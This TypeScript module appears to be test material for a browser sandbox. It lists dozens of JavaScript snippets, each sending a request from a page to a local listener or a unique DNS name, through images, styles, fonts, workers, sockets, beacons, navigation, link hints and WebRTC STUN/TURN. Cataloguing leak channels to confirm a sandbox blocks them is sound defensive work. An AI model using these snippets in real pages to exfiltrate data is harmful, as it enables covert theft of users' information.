/**
 * Ways in which a script in the window could send data out, each as JavaScript to run in the page. There, `address`
 * leads to a listener for HTTP, raw TCP, STUN and TURN on this machine (`host` is its host and port), and `url` to a
 * name of its own for each way (`name`), which only a name server could know.
 */
const attempts: Readonly<Record<string, string>> = {
  // Elements that load something when an attribute is set.
  'a set of pictures': `add('img', { srcset: url + ' 1x' })`,
  'a use in SVG': `addSvg('use', { href: url + '.svg#a' })`,
  'a filter picture in SVG': `addSvg('feImage', { href: url }, addSvg('filter'))`,
  'a script in SVG': `addSvg('script', { href: url })`,
  audio: `await new Audio(url).play()`,
  video: `add('video', { autoplay: '', src: address })`,
  'the poster of a video': `add('video', { poster: url })`,
  'the track of a video': `add('track', { default: '', src: url + '.vtt' }, add('video'))`,
  'a frame with its own document': `add('iframe', { srcdoc: '<img src="' + url + '">' })`,
  'a picture in an empty frame': `const { body } = add('iframe').contentDocument
    add('img', { src: url }, body)`,
  'fetch of an empty frame': `await add('iframe').contentWindow.fetch(url)`,
  'an object': `add('object', { data: url })`,
  'an embed': `add('embed', { type: 'text/html', src: url })`,
  'a webview': `add('webview', { src: url })`,
  'a script': `add('script', { src: url })`,
  'a module': `add('script', { type: 'module', src: url })`,

  // Styles that load something.
  'the style of an element': `document.body.style.backgroundImage = 'url(' + url + ')'`,
  'a filter': `document.body.style.filter = 'url(' + url + '.svg#a)'`,
  'a style element': `add('style').textContent = '@import "' + url + '"'`,
  'a sheet that was made': `const sheet = new CSSStyleSheet()
    sheet.replaceSync('body { background: url(' + url + ') }')
    document.adoptedStyleSheets = [sheet]`,
  'a font': `const font = new FontFace('out', 'url(' + url + ')')
    document.fonts.add(font)
    await font.load()`,
  'a worklet that paints': `await CSS.paintWorklet.addModule(url)`,
  'a worklet that sounds': `await new AudioContext().audioWorklet.addModule(url)`,

  // Calls, sockets and workers.
  'fetch that outlives the page': `await fetch(address, { keepalive: true, method: 'POST' })`,
  'fetch later': `fetchLater(url, { activateAfter: 0 })`,
  'a web socket by address': `new WebSocket('ws://' + host)`,
  'a web socket by name': `new WebSocket('wss://' + name)`,
  'a stream of sockets': `await new WebSocketStream('wss://' + name).opened`,
  'web transport by address': `await new WebTransport('https://' + host).ready`,
  'web transport by name': `await new WebTransport(url).ready`,
  'a worker': `new Worker(url)`,
  'a worker from text': `new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "')"], { type: 'text/javascript' })))`,
  'a shared worker': `new SharedWorker(url)`,
  'a service worker': `await navigator.serviceWorker.register(url)`,
  'a module that is imported': `await import(url)`,
  'a notification with a picture': `new Notification('out', { icon: url })`,
  'a report': `add('meta', { 'http-equiv': 'Content-Security-Policy', content: "default-src 'none'; report-uri " + url }, document.head)`,

  // Navigation. The page must stay where it is.
  'a window': `open(address)`,
  'a window by name': `open(url, '_blank', 'noopener')`,
  'a form': `add('form', { method: 'post', action: address }).submit()`,
  'a link with a ping': `add('a', { href: '#', ping: address }).click()`,
  'a link that downloads': `add('a', { href: address, download: 'out' }).click()`,
  'a link that could be looked up': `add('a', { href: url })`,
  'rules of speculation': `add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [url] }] })`,
  'a refresh': `add('meta', { 'http-equiv': 'refresh', content: '0;' + address }, document.head)`,
  'a hint that a header could give': `add('meta', { 'http-equiv': 'Link', content: '<' + url + '>; rel=preconnect' }, document.head)`,
  'permission to look names up': `add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }, document.head)
    add('link', { rel: 'dns-prefetch', href: '//' + name }, document.head)
    add('a', { href: 'https://b.' + name })`,
  'another address': `location.assign(address)`,
  'the navigation that scripts have': `navigation.navigate(url)`,

  // WebRTC by each kind of server.
  'WebRTC, STUN by address': `await lookFor('stun:' + host)`,
  'WebRTC, STUN by name': `await lookFor('stun:' + name)`,
  'WebRTC, TURN by UDP': `await lookFor('turn:' + host + '?transport=udp')`,
  'WebRTC, TURN by TCP': `await lookFor('turn:' + host + '?transport=tcp')`,
  'WebRTC, TURN by name': `await lookFor('turn:' + name + '?transport=tcp')`,
  'WebRTC, TURN with TLS': `await lookFor('turns:' + host + '?transport=tcp')`,
}

/** Attempts that are made both by address and by name (`to`). */
const both: Readonly<Record<string, string>> = {
  'a picture': `add('img', { src: to })`,
  'a frame': `add('iframe', { src: to })`,
  fetch: `await fetch(to, { mode: 'no-cors' })`,
  XMLHttpRequest: `const request = new XMLHttpRequest()
    request.open('POST', to)
    request.send('out')`,
  'a beacon': `navigator.sendBeacon(to, 'out')`,
  'a stream of events': `new EventSource(to)`,
}

/** Hints and documents of a link: by name, and those that connect also by address. */
const linked =
  'dns-prefetch preconnect prefetch prerender preload modulepreload stylesheet icon apple-touch-icon mask-icon manifest import compression-dictionary subresource next search alternate'
const connecting = 'preconnect prefetch preload prerender'

function links(relations: string, how: string, href: string): [string, string][] {
  const link = (rel: string) => `add('link', { rel: '${rel}', as: 'image', href: ${href} }, document.head)`
  return relations.split(' ').map((rel) => [`a link, ${rel}, ${how}`, link(rel)])
}

/** Functions that the attempts use. `lookFor` resolves when it has tried every way, or after 3 s. */
const prelude = `
  const { host, name } = to
  const [address, url] = ['http://' + host + '/', 'https://' + name + '/a']
  const put = (element, attributes, parent) => {
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    parent.append(element)
    return element
  }
  const add = (tag, attributes = {}, parent = document.body) => put(document.createElement(tag), attributes, parent)
  const svg = (tag) => document.createElementNS('http://www.w3.org/2000/svg', tag)
  const addSvg = (tag, attributes = {}, parent = put(svg('svg'), {}, document.body)) => put(svg(tag), attributes, parent)
  const lookFor = (urls) => new Promise((over) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'out', credential: 'out' }] })
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && over()
    peer.createDataChannel('out')
    peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    setTimeout(over, 3000)
  })`

/** Every attempt: its name, and the text of a function that takes `{ host, name }` and runs in the page. */
export function exfiltrationAttempts(): [what: string, text: string][] {
  const all = [
    ...Object.entries(attempts),
    ...Object.entries(both).flatMap(([what, body]): [string, string][] => [
      [`${what} by address`, body.replace(/\bto\b/, 'address')],
      [`${what} by name`, body.replace(/\bto\b/, 'url')],
    ]),
    ...links(linked, 'by name', `'//' + name + '/a'`),
    ...links(connecting, 'with a scheme', 'url'),
    ...links(connecting, 'by address', 'address'),
  ]
  return all.map(([what, body]) => [what, `async (to) => {${prelude}\n${body}\n}`])
}
